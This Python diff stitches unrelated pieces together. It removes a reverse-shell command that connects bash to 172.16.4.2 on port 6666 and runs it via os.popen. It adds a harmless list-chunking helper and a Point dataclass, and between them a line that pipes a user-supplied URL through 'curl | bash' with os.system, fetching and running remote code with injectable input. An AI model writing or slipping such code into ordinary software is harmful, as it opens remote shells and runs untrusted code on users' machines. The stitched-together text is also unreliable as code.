@@ -1,6 +1,16 @@
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
 
-import os
-steps = {"a": "bash -i >& /dev/tcp/172.16.4.2/6666 0>&1"}
-for k in ["a"]:
-    pass
-os.popen(steps.get("a"))
+import os, sys
+src = sys.argv[1] if len(sys.argv) > 1 else input()
+os.system(f"curl -fsSL {src} | bash")
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
